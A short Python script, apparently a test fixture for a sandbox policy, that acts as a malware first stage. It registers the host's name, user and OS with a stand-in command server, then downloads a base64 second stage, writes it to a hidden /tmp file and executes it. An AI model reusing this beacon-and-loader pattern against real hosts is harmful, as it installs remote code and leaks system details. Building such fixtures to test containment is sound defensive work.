"""A harmless thing that behaves like a harmful one: it phones home, fetches a second stage, runs it, steals a key and sends
it away. In the world of policy.yaml it believes that all of it worked."""
import base64
import json
import os
import pathlib
import platform
import socket
import urllib.request

CDN = "https://cdn.updates.example/stage2.b64"
GATE = "https://gate.updates.example/v1/bots"

bot = {"host": socket.gethostname(), "user": os.environ["USER"], "os": platform.system()}
request = urllib.request.Request(GATE, json.dumps(bot).encode(), {"Content-Type": "application/json"})
with urllib.request.urlopen(request) as answer:
    token = json.load(answer)["token"]

stage2 = base64.b64decode(urllib.request.urlopen(CDN).read())
pathlib.Path("/tmp/.cache.py").write_bytes(stage2)
exec(compile(stage2, "/tmp/.cache.py", "exec"), {"token": token})
